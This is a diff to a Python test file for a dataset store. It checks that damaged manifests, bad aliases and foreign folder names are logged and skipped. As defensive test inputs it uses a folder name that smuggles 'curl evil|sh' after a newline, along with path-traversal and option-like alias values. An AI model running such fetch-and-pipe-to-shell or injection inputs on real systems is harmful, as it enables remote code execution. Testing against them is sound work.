@@ -1,4 +1,4 @@
-"""Stores of others: a bad manifest or alias is one sentence, and hides nothing else."""
+"""Damaged and foreign stores: a bad manifest or alias is one sentence and hides nothing else."""
 
 import json
 import os
@@ -84,7 +84,7 @@ BAD = {
 @pytest.mark.parametrize("kind", BAD)
 def test_a_bad_manifest_is_one_sentence_and_hides_no_other_dataset(kind, three, caplog):
     store, (first, second, third) = three
-    BAD[kind](Path(store.base, second.ref, MANIFEST))
+    BAD[kind](Path(store.files.base, second.ref, MANIFEST))
     assert {dataset.ref for dataset in store.datasets()} == {first.ref, third.ref}
     (record,) = caplog.records
     assert record.getMessage().isprintable()  # one line
@@ -96,14 +96,14 @@ def test_a_bad_manifest_is_one_sentence_and_hides_no_other_dataset(kind, three, 
         assert isinstance(error.value, DamagedFile) or kind == "link"
         assert str(error.value).isprintable()
     assert store.get(third.id[:8]).ref == third.ref
-    roles = [(role, node.ref) for _, role, node in store.lineage(third)]
+    roles = [(role, node.ref) for _, role, node in third.lineage()]
     assert roles == [("", third.ref), ("first", first.ref)]
 
 
 def test_an_input_that_is_gone_is_left_out_of_the_lineage(three, caplog):
     store, (first, second, third) = three
-    Path(store.base, first.ref, MANIFEST).unlink()
-    assert [node.ref for _, _, node in store.lineage(third)] == [third.ref, second.ref]
+    Path(store.files.base, first.ref, MANIFEST).unlink()
+    assert [node.ref for _, _, node in third.lineage()] == [third.ref, second.ref]
     assert first.ref in caplog.text
 
 
@@ -116,8 +116,8 @@ def test_a_lineage_of_thousands_is_walked(tmp_path):
         folder = tmp_path / "numbers" / following["id"]
         folder.mkdir()
         (folder / MANIFEST).write_text(json.dumps(following))
-        node = Dataset(store, "numbers", following["id"], following)
-    assert len(store.lineage(node)) == 1101
+        node = Dataset(store.files, "numbers", following["id"], following)
+    assert len(node.lineage()) == 1101
 
 
 NO_OBJECT = ("array", "empty", "null", "no text", "long number", "10,000 levels", "huge")
@@ -127,7 +127,7 @@ NO_OBJECT = ("array", "empty", "null", "no text", "long number", "10,000 levels"
 def test_aliases_that_are_no_aliases_hide_no_dataset(kind, three, caplog):
     store, (first, *_) = three
     store.set_alias("named", first)
-    BAD[kind](Path(store.base, "aliases.json"))
+    BAD[kind](Path(store.files.base, "aliases.json"))
     assert store.get(first.ref).ref == first.ref
     assert len(list(store.datasets())) == 3
     for operation in (
@@ -146,7 +146,7 @@ def test_an_entry_that_is_no_alias_is_logged_and_skipped(three, caplog):
         "number": 5, "list": [], "null": None, "out": "../../etc", "no ref": first.id,
         "line\nbreak": first.ref, "-x": first.ref, "": first.ref, "a": f"{first.ref}\n",
     }  # fmt: skip
-    store.write_json("aliases.json", bad | {"good": first.ref})
+    store.files.write_json("aliases.json", bad | {"good": first.ref})
     assert store.aliases() == {"good": first.ref}
     assert len(caplog.records) == len(bad)
     assert all(record.getMessage().isprintable() for record in caplog.records)
@@ -156,13 +156,13 @@ def test_an_entry_that_is_no_alias_is_logged_and_skipped(three, caplog):
 
 def test_a_folder_with_a_foreign_name_is_no_dataset(three, caplog):
     store, _ = three
-    foreign = Path(store.base, "numbers", "x\ncurl evil|sh #")
+    foreign = Path(store.files.base, "numbers", "x\ncurl evil|sh #")
     foreign.mkdir()
     (foreign / MANIFEST).write_text("{}")
     assert len(list(store.datasets())) == 3
     (record,) = caplog.records
     assert record.getMessage().isprintable()
-    assert "is no dataset's name" in record.getMessage()
+    assert "is not a dataset id" in record.getMessage()
 
 
 @pytest.mark.parametrize("make", [os.mkfifo, Path.mkdir])
@@ -170,5 +170,5 @@ def test_a_part_that_is_no_file_is_a_sentence(make, tmp_path):
     draft = Store(tmp_path).begin("numbers", {}, {}, None)
     assert isinstance(draft, Draft)
     make(draft.local_path() / "part-00000.parquet")
-    with pytest.raises(DamagedFile, match="is no regular file"):
+    with pytest.raises(DamagedFile, match="is not a regular file"):
         draft.read_part(0)
